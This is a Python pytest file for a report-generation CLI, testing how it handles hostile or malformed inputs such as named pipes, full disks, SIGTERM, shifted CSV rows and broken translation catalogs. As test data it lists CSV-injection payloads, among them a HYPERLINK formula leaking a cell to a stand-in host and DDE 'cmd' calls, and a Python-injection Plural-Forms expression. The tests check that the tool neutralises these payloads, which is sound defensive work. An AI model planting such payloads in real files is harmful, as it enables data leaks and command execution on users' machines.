"""A hostile user's inputs: odd files where a template, a data file or an output is expected, a
full disk, formula-like cells. Each case: one clear ``Error:`` line, the right exit code, and no
partial or overwritten file."""

from __future__ import annotations

import os
import signal
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from reports.cli import app
from reports.fingerprint import template_digest

runner = CliRunner()


def one_error(result: object, code: int) -> str:
    """The single ``Error:`` line of a run that exited with ``code``, with no traceback."""
    assert result.exit_code == code, result.output  # type: ignore[attr-defined]
    stderr: str = result.stderr  # type: ignore[attr-defined]
    assert "Traceback" not in stderr
    lines = [line for line in stderr.splitlines() if line.startswith("Error: ")]
    assert len(lines) == 1, stderr
    return lines[0]


def brand_template(folder: Path, logo: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "brief.toml").write_text(
        f'[[section]]\nname = "cover"\n\n[brand]\nlogo = "{logo}"\n', encoding="utf-8"
    )
    return folder


# ------------------------------------------------------------ brand files that are not files


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_logo_that_is_a_named_pipe_is_an_error_not_a_hang(tmp_path: Path) -> None:
    """`logo = "fifo.png"` (a named pipe nobody writes to): the build's fingerprint opened it
    before the template was checked and waited for ever."""
    folder = brand_template(tmp_path / "t", "fifo.png")
    os.mkfifo(folder / "fifo.png")
    template_digest(folder / "brief.toml")  # returns at once (it blocked in open())
    out = tmp_path / "out"
    result = runner.invoke(
        app, ["build", "--period", "2024", "--templates", str(folder), "--out", str(out)]
    )
    line = one_error(result, 1)
    assert f"{folder / 'brief.toml'}:5: [brand] logo" in line
    assert "fifo.png is not a regular file" in line
    assert not list(tmp_path.rglob("*.pdf"))


def test_a_logo_that_is_a_device_is_never_read(tmp_path: Path) -> None:
    """`logo = "logo.png"`, a link to /dev/zero: the fingerprint read it until memory ran out
    (an unexpected MemoryError, exit 70)."""
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero")
    folder = brand_template(tmp_path / "t", "logo.png")
    (folder / "logo.png").symlink_to("/dev/zero")
    template_digest(folder / "brief.toml")  # returns at once (it read for ever)
    result = runner.invoke(
        app,
        ["build", "--period", "2024", "--templates", str(folder), "--out", str(tmp_path / "o")],
    )
    line = one_error(result, 1)
    assert f"{folder / 'brief.toml'}:5: [brand] logo" in line
    assert not list(tmp_path.rglob("*.pdf"))


def test_a_logo_that_is_a_folder_is_named_as_such(tmp_path: Path) -> None:
    folder = brand_template(tmp_path / "t", "logo.png")
    (folder / "logo.png").mkdir()
    result = runner.invoke(app, ["templates", "check", str(folder)])
    line = one_error(result, 1)
    assert (
        f"{folder / 'brief.toml'}:5: [brand] logo {folder / 'logo.png'} is not a regular file"
        in line
    )


def test_a_brand_file_digest_is_its_bytes(tmp_path: Path) -> None:
    """Read in chunks, a logo's digest is still that of its bytes: briefs stay current."""
    folder = brand_template(tmp_path / "t", "logo.png")
    (folder / "logo.png").write_bytes(b"\x89PNG" + bytes(range(256)) * 10_000)
    first = template_digest(folder / "brief.toml")
    (folder / "logo.png").write_bytes(b"\x89PNG" + bytes(range(256)) * 10_000 + b"!")
    assert template_digest(folder / "brief.toml") != first


# ------------------------------------------------------- a batch killed under a pipe reader


def test_a_forked_worker_ends_when_its_batch_is_a_zombie() -> None:
    """`kill -TERM` (or -9) of a batch run by a program that reads its output to the end before
    reaping it (`subprocess.Popen.communicate`, `$(reports batch --json)`): the dead batch stays
    a zombie, which `kill(pid, 0)` still finds, so its workers, re-parented, waited for it for
    ever, holding the output open: both sides hung. A forked worker now ends when re-parented."""
    from reports.batch import _orphaned

    batch = os.getpid()  # alive, as a zombie is to kill(pid, 0)
    assert _orphaned(batch, True, 1)  # re-parented to init: the batch has ended
    assert not _orphaned(batch, True, batch)


def test_a_fork_server_worker_asks_whether_its_batch_exists(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from reports import batch as batch_module

    assert not batch_module._orphaned(os.getpid(), False, 12345)

    def gone(pid: int, sig: int) -> None:
        raise ProcessLookupError(pid)

    monkeypatch.setattr(batch_module.os, "kill", gone)
    assert batch_module._orphaned(4242, False, 12345)


def test_workers_are_told_they_were_forked_by_the_batch(monkeypatch: pytest.MonkeyPatch) -> None:
    """The pool passes the batch's pid and how its workers start to each worker."""
    from concurrent.futures import ProcessPoolExecutor

    from reports import batch as batch_module

    seen: dict[str, object] = {}

    class Recording(ProcessPoolExecutor):
        def __init__(self, *args: object, **kwargs: object) -> None:
            seen.update(kwargs)
            raise RuntimeError("stop here")

    monkeypatch.setattr(batch_module, "ProcessPoolExecutor", Recording)
    with pytest.raises(RuntimeError):
        batch_module._pool([], Path("."), 1, lambda r: None, batch_module.CtrlC())
    assert seen["initargs"] == (os.getpid(), batch_module._FORK)


# ------------------------------------------------------------ formulas in exported figures


def data_with_sources(tmp_path: Path, source: str) -> Path:
    """The embedded data with every row's source (and no translation of it) set to ``source``."""
    import csv
    import io

    from reports.resources import default_data_path

    with default_data_path().open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    column = header.index("source")
    translations = [i for i, name in enumerate(header) if name.startswith("source_")]
    body = [
        [source if i == column else "" if i in translations else cell for i, cell in enumerate(r)]
        for r in rows[1:]
    ]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([header, *body])
    path = tmp_path / "data.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Office des Changes")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("source", FORMULAS)
def test_a_source_that_looks_like_a_formula_is_text_in_the_csv(tmp_path: Path, source: str) -> None:
    """`reports export --format csv` wrote the source as is: a spreadsheet opening the file ran
    it (CSV injection)."""
    import csv

    data = data_with_sources(tmp_path, source)
    out = tmp_path / "out"
    result = runner.invoke(
        app, ["export", "--data", str(data), "--period", "2024", "--format", "csv", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    path = out / "2024" / "figures-2024.csv"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    sources = {row["source"] for row in rows}
    assert sources == {"'" + source}
    assert rows[0]["value_mad_m"] == "10578.0"  # numbers stay numbers


def test_negative_numbers_in_the_csv_are_not_quoted(tmp_path: Path) -> None:
    from reports.cells import csv_text

    assert csv_text(-0.05) == -0.05
    assert csv_text("ITO") == "ITO"
    assert csv_text("-x") == "'-x"


@pytest.mark.parametrize("locale", [None, "ar"])
def test_a_source_that_looks_like_a_formula_is_a_string_in_the_xlsx(
    tmp_path: Path, locale: str | None
) -> None:
    """`reports export` (XLSX) stored `=HYPERLINK(...)` as a formula cell (openpyxl's type
    'f'): Excel ran it on opening. Now it is a string cell, its text unchanged."""
    import openpyxl

    source = FORMULAS[0]
    data = data_with_sources(tmp_path, source)
    out = tmp_path / "out"
    args = ["export", "--data", str(data), "--period", "2024", "-o", str(out)]
    result = runner.invoke(app, args + (["--locale", locale] if locale else []))
    assert result.exit_code == 0, result.output
    suffix = f"-{locale}" if locale else ""
    book = openpyxl.load_workbook(out / "2024" / f"figures-2024{suffix}.xlsx")
    sheet = book["figures"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in sheet["L"][1:]] == [source] * (sheet.max_row - 1)
    assert sheet["D2"].data_type == "n" and sheet["D2"].value == 10578


# -------------------------------------------------------------- templates init, disk full

_FULL_DISK = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead
limit = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
sys.argv = ["reports", *sys.argv[2:]]
from reports.cli import main
main()
"""


@pytest.mark.skipif(not hasattr(os, "fork"), reason="RLIMIT_FSIZE is POSIX")
@pytest.mark.parametrize("force", [False, True])
def test_templates_init_on_a_full_disk_leaves_no_truncated_file(
    tmp_path: Path, force: bool
) -> None:
    """`reports templates init --force my-templates` with too little room: each file was
    truncated, then written until the disk was full; an analyst's edited catalog became the
    first bytes of the packaged one (and `reports build` used it without a word), and the error
    named the packaged file, not the one being written. A file size limit stands in for the full
    disk: every file but the smallest is larger than it."""
    import subprocess
    import sys

    from reports.resources import template_files, templates_dir

    files = template_files()
    sizes = {f: (templates_dir() / f).stat().st_size for f in files}
    first = files[0]
    assert all(sizes[f] > sizes[first] for f in files[1:])
    target = tmp_path / "my templates"
    before: dict[Path, bytes] = {}
    if force:
        assert runner.invoke(app, ["templates", "init", str(target)]).exit_code == 0
        for relative in files[1:]:
            path = target / relative
            path.write_bytes(path.read_bytes() + b"\n# an analyst's edit\n")
            before[relative] = path.read_bytes()
    args = ["templates", "init", str(target)] + (["--force"] if force else [])
    result = subprocess.run(
        [sys.executable, "-c", _FULL_DISK, str(sizes[first] + 16), *args],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
    assert errors == [f"Error: cannot write {target / files[1]}: File too large"], result.stderr
    assert (target / first).read_bytes() == (templates_dir() / first).read_bytes()
    for relative in files[1:]:
        path = target / relative
        if force:
            assert path.read_bytes() == before[relative], relative
        else:
            assert not path.exists(), relative
    assert not [p for p in target.rglob("*") if p.name.endswith(".tmp")]


# ------------------------------------------------------- a CSV row longer than its header

SHIFTED = (
    "indicator,period,segment,value,unit,source,note,status\n"
    "exports,2024,ITO,10578,MAD_M,Office des Changes, données préliminaires,,published\n"
    "exports,2024,CRM,9797,MAD_M,Office des Changes,,published\n"
)


@pytest.mark.parametrize(
    ("row", "extra"),
    [
        # the source's comma not quoted: note and status move right, 'published' falls off
        ("exports,2024,ITO,10578,MAD_M,Office des Changes, données,,published", "'published'"),
        # the same with an empty status: every value is still one column to the right
        ("exports,2024,ITO,10578,MAD_M,Office des Changes, données,,", "''"),
    ],
)
def test_a_row_with_more_values_than_the_header_is_an_error(
    tmp_path: Path, row: str, extra: str
) -> None:
    """`reports validate --data d.csv` where a source holds an unquoted comma: the row's values
    moved one column to the right (the source cut to 'Office des Changes', the rest in the
    note, the status dropped): 'valid', or a warning about an unknown column at row 1."""
    import json

    path = tmp_path / "d.csv"
    lines = SHIFTED.splitlines()
    path.write_text("\n".join([lines[0], row, lines[2]]) + "\n", encoding="utf-8")
    result = runner.invoke(app, ["validate", "--data", str(path), "--json"])
    assert result.exit_code == 1, result.output
    issues = json.loads(result.stdout)["issues"]
    assert [(i["row"], i["code"], i["severity"]) for i in issues] == [
        (2, "too-many-values", "error")
    ], issues
    assert issues[0]["message"].startswith(f"9 values for the header's 8 columns ({extra} after")
    assert "unknown column" not in result.stdout

    build = runner.invoke(app, ["build", "--data", str(path), "--out", str(tmp_path / "o")])
    assert build.exit_code == 1
    assert f"Error: {path}: 1 problem(s) in the data" in build.stderr
    assert f"{path}, row 2: 9 values for the header's 8 columns" in build.stderr
    assert not list(tmp_path.rglob("*.pdf"))


def test_an_unnamed_column_of_a_csv_is_still_a_column(tmp_path: Path) -> None:
    """A header with a trailing separator names an empty column: values under it are an
    unknown column (a warning), as before, not a shifted row."""
    path = tmp_path / "d.csv"
    path.write_text(
        "indicator,period,segment,value,unit,\n"
        "exports,2024,ITO,10578,MAD_M,x\n"
        "exports,2024,CRM,9797,MAD_M,\n",
        encoding="utf-8",
    )
    import json

    result = runner.invoke(app, ["validate", "--data", str(path), "--json"])
    codes = [i["code"] for i in json.loads(result.stdout)["issues"]]
    assert "too-many-values" not in codes
    assert "unknown-column" in codes


def test_a_recipient_row_with_more_values_than_the_header_is_an_error(tmp_path: Path) -> None:
    """`periods` written `2025-H1, 2024` without quotes: the recipient silently received the
    first period only (' 2024' fell past the header's last column)."""
    from reports.deliver.recipients import load_recipients
    from reports.errors import DataError

    path = tmp_path / "recipients.csv"
    path.write_text(
        "email,name,locale,cc,periods\n"
        "fatima@example.org,Fatima Bennani,fr,,2025-H1, 2024\n"
        "k@example.org,K,ar,,\n",
        encoding="utf-8",
    )
    with pytest.raises(DataError) as info:
        load_recipients(path)
    assert f"{path}, row 2: 6 values for the header's 5 columns (' 2024' after" in str(info.value)


# --------------------------------------------------------- manifest merge, broken manifests


def a_manifest(
    tmp_path: Path, name: str, change: dict[str, object], brief: dict[str, object]
) -> Path:
    import json

    item: dict[str, object] = {
        "period": "2024",
        "locale": "fr",
        "digits": "latn",
        "path": "2024/brief-2024-fr.pdf",
        "status": "built",
        "sha256": "ab" * 32,
    }
    item.update(brief)
    doc: dict[str, object] = {"format": 1, "briefs": [item]}
    doc.update(change)
    path = tmp_path / name
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("change", "brief", "message"),
    [
        ({"shard": "a/b"}, {}, "invalid shard 'a/b': expected K/N, such as 1/4"),
        ({"shard": "2/1"}, {}, "invalid shard '2/1': K must be between 1 and N"),
        ({}, {"locale": ["fr"]}, "brief #1: locale must be text"),
        ({}, {"period": 2024}, "brief #1: period must be text"),
        ({}, {"path": {"a": 1}}, "brief #1: path must be text"),
        ({}, {"sha256": 5}, "brief #1: sha256 must be text"),
    ],
)
def test_a_broken_manifest_is_named_not_a_bug(
    tmp_path: Path, change: dict[str, object], brief: dict[str, object], message: str
) -> None:
    """`reports manifest merge` on a hand-edited or corrupted shard manifest: an unexpected
    ValueError or TypeError (exit 70), or a merged manifest of garbage (exit 0)."""
    path = a_manifest(tmp_path, "m.json", change, brief)
    out = tmp_path / "merged.json"
    result = runner.invoke(app, ["manifest", "merge", str(path), "-o", str(out)])
    assert one_error(result, 1) == f"Error: {path}: {message}"
    assert not out.exists()


def test_a_manifest_nested_too_deeply_is_unreadable(tmp_path: Path) -> None:
    path = tmp_path / "deep.json"
    path.write_text('{"format": 1, "briefs": ' + "[" * 100_000 + "]" * 100_000 + "}")
    result = runner.invoke(app, ["manifest", "merge", str(path), "-o", str(tmp_path / "o.json")])
    assert one_error(result, 1) == f"Error: {path}: not a readable manifest (nested too deeply)"


def test_a_huge_shard_count_is_not_counted_to_the_end(tmp_path: Path) -> None:
    """`"shard": "1/99999999999999999999"` (`reports batch --shard` accepts it): merge built
    the set of every shard number from 1 to N and was killed for lack of memory."""
    n = 10**20
    path = a_manifest(tmp_path, "m.json", {"shard": f"2/{n}"}, {})
    result = runner.invoke(app, ["manifest", "merge", str(path), "-o", str(tmp_path / "o.json")])
    assert result.exit_code == 0, result.output
    listed = ", ".join(f"{k}/{n}" for k in (1, *range(3, 12)))
    assert f"Warning: shard(s) {listed} and {n - 11:,} more not given" in result.stderr


def test_shards_not_given_are_those_up_to_n(tmp_path: Path) -> None:
    path = a_manifest(tmp_path, "m.json", {"shard": "1/3"}, {})
    result = runner.invoke(app, ["manifest", "merge", str(path), "-o", str(tmp_path / "o.json")])
    assert result.exit_code == 0, result.output
    assert "Warning: shard(s) 2/3, 3/3 not given" in result.stderr.splitlines()


# ----------------------------------------------------------------- catalogs that are broken


def copied_templates(tmp_path: Path) -> Path:
    folder = tmp_path / "t"
    assert runner.invoke(app, ["templates", "init", str(folder)]).exit_code == 0
    return folder


def test_a_plural_forms_expression_that_is_not_one_is_a_catalog_error(tmp_path: Path) -> None:
    """`Plural-Forms: nplurals=3; plural=__import__("os")...` in a copied catalog: an unexpected
    ValueError from gettext (exit 70). It is never run: gettext refuses it; the build names the
    catalog, and `templates check` says what is wrong with it."""
    import re

    folder = copied_templates(tmp_path)
    po = folder / "locale" / "fr" / "LC_MESSAGES" / "messages.po"
    text = po.read_text(encoding="utf-8")
    po.write_text(
        re.sub(r"plural=[^\\]*", 'plural=__import__(\\"os\\").getpid()', text, count=1),
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = runner.invoke(
        app, ["build", "--period", "2024", "--templates", str(folder), "--out", str(out)]
    )
    line = one_error(result, 1)
    assert line.startswith(f"Error: cannot read message catalog {po}: invalid Plural-Forms header")
    assert not list(tmp_path.rglob("*.pdf"))
    check = runner.invoke(app, ["templates", "check", str(folder)])
    assert check.exit_code == 1
    assert f"Error: {po}:1: Plural-Forms: invalid plural expression (" in check.stderr


def test_babel_never_writes_on_standard_output(tmp_path: Path) -> None:
    """An Arabic catalog whose Plural-Forms says 2 forms (its entries give 6): babel's parser
    printed 'WARNING: ...' lines on standard output, before `reports build --json`'s JSON (no
    longer JSON). Now stdout holds the JSON alone, and `templates check` names the lines."""
    import json

    folder = copied_templates(tmp_path)
    po = folder / "locale" / "ar" / "LC_MESSAGES" / "messages.po"
    po.write_text(
        po.read_text(encoding="utf-8").replace("nplurals=6", "nplurals=2", 1), encoding="utf-8"
    )
    args = ["build", "--period", "2024", "--locale", "ar", "--templates", str(folder)]
    result = runner.invoke(app, [*args, "--out", str(tmp_path / "o"), "--json"])
    assert "WARNING" not in result.stdout
    assert json.loads(result.stdout)  # the whole of stdout is one JSON document
    check = runner.invoke(app, ["templates", "check", str(folder)])
    assert "WARNING" not in check.stdout
    assert f"Error: {po}:1: Plural-Forms gives nplurals=2" in check.stderr
    malformed = [line for line in check.stderr.splitlines() if "malformed entry" in line]
    assert malformed and all(line.startswith(f"Error: {po}:") for line in malformed)


# ----------------------------------------------------------------------- SIGTERM (kill PID)

_TERM_DURING_WRITE = """
import os, signal, sys
from reports import pipeline
real = os.fsync
calls = []
def fsync(fd):  # a SIGTERM while a brief's temporary file is being written
    calls.append(fd)
    real(fd)
    if len(calls) == 1:
        signal.raise_signal(signal.SIGTERM)
pipeline.os.fsync = fsync
sys.argv = ["reports", *sys.argv[1:]]
from reports.cli import main
main()
"""


def run_terminated(args: list[str]) -> Any:
    import subprocess
    import sys

    return subprocess.run(
        [sys.executable, "-c", _TERM_DURING_WRITE, *args],
        capture_output=True,
        text=True,
        timeout=300,
    )


@pytest.mark.skipif(not hasattr(signal, "SIGTERM") or os.name != "posix", reason="POSIX")
def test_sigterm_during_a_build_is_one_line_and_leaves_no_temporary_file(tmp_path: Path) -> None:
    """`kill PID` (a CI job cancelled) while `reports build` writes a brief: the process died
    on the spot (exit -15, nothing said, its temporary file left in the output folder)."""
    out = tmp_path / "out"
    result = run_terminated(["build", "--period", "2024", "--locale", "fr,en", "-o", str(out)])
    assert result.returncode == 143, result.stderr
    assert "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
    assert errors == ["Error: terminated (SIGTERM); no brief was left half-written."]
    assert not [p for p in out.rglob("*") if p.is_file()]  # no brief, no temporary file


@pytest.mark.skipif(not hasattr(signal, "SIGTERM") or os.name != "posix", reason="POSIX")
def test_sigterm_during_a_batch_stops_it_as_ctrl_c_does(tmp_path: Path) -> None:
    """`reports batch --jobs 1` sent SIGTERM while writing its first brief: that brief is
    finished, the batch stops, says so, and exits 143; no temporary file, no manifest."""
    out = tmp_path / "out"
    result = run_terminated(
        ["batch", "--periods", "2024", "--locales", "fr,en", "--jobs", "1", "-o", str(out)]
    )
    assert result.returncode == 143, result.stderr
    assert "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
    assert errors == [
        "Error: terminated (SIGTERM) after 1 of 2 briefs; the finished ones are kept (none is "
        "half-written): run the same command again to resume."
    ]
    pdfs = sorted(out.rglob("*.pdf"))
    assert len(pdfs) == 1 and pdfs[0].read_bytes().rstrip().endswith(b"%%EOF")
    assert not list(out.rglob(".*.tmp"))
    assert not (out / "manifest.json").exists()


def test_batch_workers_die_of_sigterm(monkeypatch: pytest.MonkeyPatch) -> None:
    """The batch stops its workers with SIGTERM (terminate()): a worker forked from it while
    its SIGTERM handler is installed must not keep that handler, or it would outlive the stop."""
    import gc

    from reports import batch

    monkeypatch.setattr(batch, "_preload", lambda: None)
    monkeypatch.setattr(
        batch.threading, "Thread", lambda **kwargs: type("T", (), {"start": lambda self: None})()
    )
    previous = {s: signal.getsignal(s) for s in (signal.SIGINT, signal.SIGTERM)}
    try:
        with batch.CtrlC():  # as in the batch process when it forks its workers
            batch._init_worker(os.getpid(), True)
            assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL
            assert signal.getsignal(signal.SIGINT) == signal.SIG_IGN
    finally:
        for number, handler in previous.items():
            signal.signal(number, handler)
        gc.unfreeze()
        gc.enable()


# ------------------------------------------------------------------- UTF-16, NUL bytes


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_a_utf16_file_with_its_byte_order_mark_is_read(tmp_path: Path, encoding: str) -> None:
    """Windows' "Unicode" text (PowerShell 5's `>`, Excel's Unicode Text): UTF-16 with a
    byte-order mark was refused ('save it as CSV UTF-8'); its rows are the UTF-8 file's."""
    from reports.resources import default_data_path
    from reports.validation import require_valid

    text = default_data_path().read_text(encoding="utf-8-sig").replace("\n", "\r\n")
    path = tmp_path / "unicode.csv"
    bom = b"\xff\xfe" if encoding == "utf-16" else b"\xfe\xff"
    body = text.encode("utf-16-le" if encoding == "utf-16" else "utf-16-be")
    path.write_bytes(bom + body)
    data, _ = require_valid(path)
    reference, _ = require_valid(default_data_path())
    assert [
        (o.key, o.value, o.source, o.source_translations, o.note) for o in data.observations
    ] == [(o.key, o.value, o.source, o.source_translations, o.note) for o in reference.observations]


def test_a_nul_byte_is_named_by_its_line(tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"indicator,period,segment,value,unit\nexports,2024,IT\x00O,1,MAD_M\n")
    result = runner.invoke(app, ["validate", "--data", str(path)])
    assert one_error(result, 1) == (
        f"Error: {path}, line 2: a NUL byte: not a text file, or UTF-16 without its byte-order "
        "mark; save it as CSV UTF-8"
    )


def test_broken_utf16_is_named_by_its_line(tmp_path: Path) -> None:
    path = tmp_path / "bad16.csv"
    good = "indicator,period,segment,value,unit\nexports,2024,ITO,1,MAD_M\n".encode("utf-16-le")
    path.write_bytes(b"\xff\xfe" + good + b"\x00\xd8" + "x\n".encode("utf-16-le"))  # lone surrogate
    result = runner.invoke(app, ["validate", "--data", str(path)])
    line = one_error(result, 1)
    assert line.startswith(f"Error: {path}, line 3: not valid UTF-16 (")


# ------------------------------------------------------ a template folder that changes nothing


def test_a_template_folder_with_no_template_is_pointed_out(tmp_path: Path) -> None:
    """`REPORTS_TEMPLATES=~/briefs` (the parent of the folder meant): every command used the
    packaged templates without a word, and `templates check` said '0 error(s), 0 warning(s)'."""
    folder = tmp_path / "nothing here"
    folder.mkdir()
    note = (
        f"Warning: {folder.resolve()} holds no brief.toml and no "
        "locale/LANGUAGE/LC_MESSAGES/messages.po: the packaged templates are used"
    )
    check = runner.invoke(app, ["templates", "check", str(folder)])
    assert check.exit_code == 0, check.output
    assert note.replace(" holds no", ": holds no") in check.stderr
    out = tmp_path / "out"
    build = runner.invoke(
        app,
        ["build", "--period", "2024", "--out", str(out)],
        env={"REPORTS_TEMPLATES": str(folder)},
    )
    assert build.exit_code == 0, build.output
    assert note in build.stderr.splitlines()


def test_a_template_file_that_is_a_folder_is_pointed_out(tmp_path: Path) -> None:
    folder = copied_templates(tmp_path)
    po = folder / "locale" / "fr" / "LC_MESSAGES" / "messages.po"
    po.unlink()
    po.mkdir()
    check = runner.invoke(app, ["templates", "check", str(folder)])
    assert f"{po} is not a regular file: the packaged one is used" in check.stderr


def test_export_names_its_locale_option_in_a_usage_error(tmp_path: Path) -> None:
    """`reports export --locale de` said 'Invalid value: no brief language...' (which value?)."""
    result = runner.invoke(app, ["export", "--locale", "de", "--out", str(tmp_path)])
    assert result.exit_code == 2
    assert "Invalid value for '--locale' / '-l': no brief language for locale 'de'" in result.stderr
    assert not list(tmp_path.rglob("*.xlsx"))


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_a_full_standard_output_is_named(tmp_path: Path) -> None:
    """`reports periods > /dev/full` (or a file on a full disk) said 'Error: No space left on
    device', without saying what could not be written."""
    import subprocess
    import sys

    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "reports", "periods"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        "Error: cannot write the result to standard output: no space left on the device"
    ]


# --------------------------------------------------- direction controls in a source's text


def test_direction_controls_in_a_source_are_not_drawn(tmp_path: Path) -> None:
    """A source pasted with direction controls: its right-to-left override (U+202E) drew it
    backwards in the Arabic brief ('txet desrever'), its isolates (U+2067, U+2069) printed as
    boxes in the French one. The brief lays the text out itself: the controls are dropped."""
    from conftest import pdf_text

    source = "Office des Changes \u202ereversed text\u202c end, \u2067isolate\u2069 ok"
    data = data_with_sources(tmp_path, source)
    out = tmp_path / "out"
    args = ["build", "--data", str(data), "--period", "2024", "--locale", "fr,ar", "-o", str(out)]
    result = runner.invoke(app, [*args, "--date", "2025-03-01"])
    assert result.exit_code == 0, result.output
    french = "".join(pdf_text(out / "2024" / "brief-2024-fr.pdf"))
    assert "Office des Changes reversed text end, isolate ok" in french
    arabic = "".join(pdf_text(out / "2024" / "brief-2024-ar.pdf"))
    # PDFium reads Latin words of an Arabic line in reverse word order (README), not letters
    assert "reversed" in arabic and "Changes" in arabic
    assert "desrever" not in arabic
    for text in (french, arabic):
        assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="symbolic links")
def test_a_data_link_to_nothing_is_named_as_a_link(tmp_path: Path) -> None:
    """`reports validate --data data.csv`, a link whose target was moved (or a loop of links):
    'data.csv: file not found', though `ls` lists data.csv."""
    link = tmp_path / "data.csv"
    link.symlink_to(tmp_path / "moved" / "data.csv")
    result = runner.invoke(app, ["validate", "--data", str(link)])
    assert one_error(result, 1) == (
        f"Error: {link}: a symbolic link to {tmp_path / 'moved' / 'data.csv'}, which does not "
        "exist (or a loop of links)"
    )
    loop = tmp_path / "loop.csv"
    loop.symlink_to(loop)
    result = runner.invoke(app, ["validate", "--data", str(loop)])
    assert "which does not exist (or a loop of links)" in one_error(result, 1)
